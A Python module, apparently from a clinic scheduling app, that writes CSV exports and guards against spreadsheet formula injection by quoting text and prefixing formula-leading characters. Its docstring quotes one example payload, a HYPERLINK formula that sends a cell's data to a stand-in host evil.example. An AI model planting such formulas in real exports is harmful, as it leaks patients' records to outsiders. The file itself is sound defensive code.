"""CSV files that leave the building: every export is written here, and only here.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and one that
starts with a tab or a carriage return may be trimmed into one; a series titled
`=HYPERLINK("https://evil.example/?"&A1, "Open")` would then carry a row of the census to
whoever clicks. OWASP's CSV injection advice, followed here: text that starts with any of those
gets a leading single quote, and every text cell is quoted. Numbers the code computed are
written as numbers (a shortfall of -1.5 stays -1.5): only text can come from a person.
"""

import csv
import io
from collections.abc import Iterable, Mapping
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

from flask import Response

from scheduler.i18n import pgettext

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    """One value as it goes into the file: numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal)):
        return value
    if isinstance(value, (list, tuple)):
        value = ";".join(str(v) for v in value)
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def local_time(value: str | None, tz: ZoneInfo) -> str | None:
    """An ISO 8601 instant as the clinic's wall-clock time, "2027-03-01 18:00", which a
    spreadsheet reads as a time; the file's time_zone column says whose."""
    if not value:
        return value
    return f"{datetime.fromisoformat(value).astimezone(tz):%Y-%m-%d %H:%M}"


def column_names() -> dict[str, str]:
    """Each column's header in the language of the person downloading: English keeps the
    API's field names; a translation keeps their shape (snake_case), so a sheet's formulas
    and pivots still find a column by one word."""
    return {
        "absent_excused": pgettext("CSV column", "absent_excused"),
        "absent_unexcused": pgettext("CSV column", "absent_unexcused"),
        "admitted_on": pgettext("CSV column", "admitted_on"),
        "attendance_rate": pgettext("CSV column", "attendance_rate"),
        "attended": pgettext("CSV column", "attended"),
        "attended_hours": pgettext("CSV column", "attended_hours"),
        "attended_minutes": pgettext("CSV column", "attended_minutes"),
        "booked": pgettext("CSV column", "booked"),
        "cancelled_by_clinic": pgettext("CSV column", "cancelled_by_clinic"),
        "capacity": pgettext("CSV column", "capacity"),
        "certification_due": pgettext("CSV column", "certification_due"),
        "client_id": pgettext("CSV column", "client_id"),
        "client_name": pgettext("CSV column", "client_name"),
        "discharged_on": pgettext("CSV column", "discharged_on"),
        "ends_at": pgettext("CSV column", "ends_at"),
        "episode_id": pgettext("CSV column", "episode_id"),
        "fixable": pgettext("CSV column", "fixable"),
        "individual_minutes": pgettext("CSV column", "individual_minutes"),
        "intake_since": pgettext("CSV column", "intake_since"),
        "kind": pgettext("CSV column", "kind"),
        "last_attended_at": pgettext("CSV column", "last_attended_at"),
        "last_attended_session_id": pgettext("CSV column", "last_attended_session_id"),
        "late": pgettext("CSV column", "late"),
        "leave_of_absence": pgettext("CSV column", "leave_of_absence"),
        "left_early": pgettext("CSV column", "left_early"),
        "make_up_url": pgettext("CSV column", "make_up_url"),
        "met": pgettext("CSV column", "met"),
        "open_hours": pgettext("CSV column", "open_hours"),
        "present": pgettext("CSV column", "present"),
        "projected_hours": pgettext("CSV column", "projected_hours"),
        "reasons": pgettext("CSV column", "reasons"),
        "review_due": pgettext("CSV column", "review_due"),
        "scheduled_hours": pgettext("CSV column", "scheduled_hours"),
        "series_id": pgettext("CSV column", "series_id"),
        "series_title": pgettext("CSV column", "series_title"),
        "service_date": pgettext("CSV column", "service_date"),
        "services": pgettext("CSV column", "services"),
        "session_id": pgettext("CSV column", "session_id"),
        "shortfall_hours": pgettext("CSV column", "shortfall_hours"),
        "starts_at": pgettext("CSV column", "starts_at"),
        "status": pgettext("CSV column", "status"),
        "target_hours": pgettext("CSV column", "target_hours"),
        "tier": pgettext("CSV column", "tier"),
        "time_zone": pgettext("CSV column", "time_zone"),
        "title": pgettext("CSV column", "title"),
        "unexcused_recent": pgettext("CSV column", "unexcused_recent"),
        "unexcused_streak": pgettext("CSV column", "unexcused_streak"),
        "unmarked": pgettext("CSV column", "unmarked"),
        "upcoming_hours": pgettext("CSV column", "upcoming_hours"),
        "waitlisted": pgettext("CSV column", "waitlisted"),
        "week_start": pgettext("CSV column", "week_start"),
    }


def render(rows: Iterable[Mapping], columns: list[str],
           headers: Mapping[str, str] | None = None) -> str:
    """The header (`headers` renames columns) and one line per row; text quoted
    (QUOTE_NONNUMERIC), numbers bare."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n")
    writer.writerow([cell((headers or {}).get(name, name)) for name in columns])
    for row in rows:
        writer.writerow([cell(row[name]) for name in columns])
    return out.getvalue()


def response(rows: Iterable[Mapping], columns: list[str], filename: str, *,
             translated: bool = True) -> Response:
    """The file as a download, its header in the language being spoken (`translated`), else
    the field names."""
    return Response(
        render(rows, columns, column_names() if translated else None),
        mimetype="text/csv",
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )
